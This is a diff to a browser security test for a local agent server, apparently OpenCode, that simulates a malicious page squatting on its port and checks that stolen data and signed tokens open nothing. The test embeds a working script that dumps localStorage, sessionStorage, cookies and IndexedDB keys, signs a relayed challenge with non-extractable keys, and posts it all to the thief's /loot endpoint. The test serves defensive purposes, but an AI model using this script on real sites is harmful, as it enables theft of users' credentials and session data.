@@ -35,10 +35,14 @@ afterAll(async () => {
   await model?.close()
 })
 
-/** What the thief's page takes from the browser that it is loaded in, and sends home. */
+/**
+ * What the thief's page takes from the browser that it is loaded in, and sends home: all that is kept there, and what it
+ * can have signed by a key that it cannot read, for the server at its new port.
+ */
 const LOOT = `<script>(async () => {
   const all = (area) => Object.entries({ ...area })
   const kept = []
+  const signed = []
   for (const { name } of await indexedDB.databases()) {
     const open = indexedDB.open(name)
     await new Promise((done) => { open.onsuccess = done })
@@ -48,9 +52,15 @@ const LOOT = `<script>(async () => {
       for (const { id, key } of request.result)
         for (const format of ["raw", "jwk"])
           kept.push([id, key.extractable, await crypto.subtle.exportKey(format, key).catch((error) => error.name)])
+      for (const { id, key } of request.result) {
+        const { boot } = await (await fetch("/hello?id=" + id + "&nonce=" + "0".repeat(32))).json()
+        const mac = await crypto.subtle.sign("HMAC", key, new TextEncoder().encode("superagents access\\n" + boot))
+        const text = btoa(String.fromCharCode(...new Uint8Array(mac)))
+        signed.push(id + "." + text.replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", ""))
+      }
     }
   }
-  await fetch("/loot", { method: "POST", body: JSON.stringify([all(localStorage), all(sessionStorage), document.cookie, kept]) })
+  await fetch("/loot", { method: "POST", body: JSON.stringify([all(localStorage), all(sessionStorage), document.cookie, kept, signed]) })
 })()</script>`
 
 type Taken = {
@@ -113,7 +123,7 @@ describe.skipIf(!browser)("a port thief", () => {
     await page.getByText("cannot prove that it is the OpenCode").waitFor()
     for (const { method, url, headers, body } of first.taken) {
       expect([method, body, headers.authorization, headers.cookie]).toEqual(["GET", "", undefined, undefined])
-      expect(url).toMatch(/^\/hello\?id=p\.[\w-]{22}&nonce=[\da-f]{32}$/)
+      expect(url).toMatch(/^\/hello\?id=p\.\d+\.[\w-]{22}&nonce=[\da-f]{32}$/)
     }
     await first.end()
     // 2. OpenCode is back, at another port since this one is taken, and the thief passes the tab's questions on to it.
@@ -128,10 +138,13 @@ describe.skipIf(!browser)("a port thief", () => {
     await page.getByText(`OpenCode serves this page at ${moved}, and this is ${before.url}.`).waitFor()
     await second.end()
     // 3. Its own page is loaded in the tab.
-    const third = await steal(port, ({ url }) => (url === "/" ? LOOT : ""))
+    const third = await steal(port, async ({ url }) => {
+      if (url.startsWith("/hello")) return (await fetch(`${moved}${url}`)).text()
+      return url === "/" ? LOOT : ""
+    })
     await page.reload()
     const { body } = await eventually(() => third.taken.find(({ url }) => url === "/loot"))
-    const [local, session, cookie, kept] = JSON.parse(body)
+    const [local, session, cookie, kept, signed] = JSON.parse(body)
     expect(JSON.stringify([local, session, cookie])).not.toMatch(/token|secret|key|code/i)
     const { id } = JSON.parse(JSON.stringify({ id: kept[0][0] })) as { id: string }
     expect(kept).toEqual([
@@ -142,7 +155,8 @@ describe.skipIf(!browser)("a port thief", () => {
     const loot = JSON.stringify([first.taken, second.taken, third.taken])
     for (const each of [before.token, before.key, secret]) expect(loot).not.toContain(each)
     // Nor does what it heard open anything at the server.
-    for (const bearer of [id, `${id}.`, `${id}.${"A".repeat(43)}`]) {
+    expect(signed).toHaveLength(1)
+    for (const bearer of [...signed, id, `${id}.`, `${id}.${"A".repeat(43)}`]) {
       const headers = { authorization: `Bearer ${bearer}` }
       expect((await fetch(`${moved}/api/agents`, { headers })).status).toBe(401)
     }
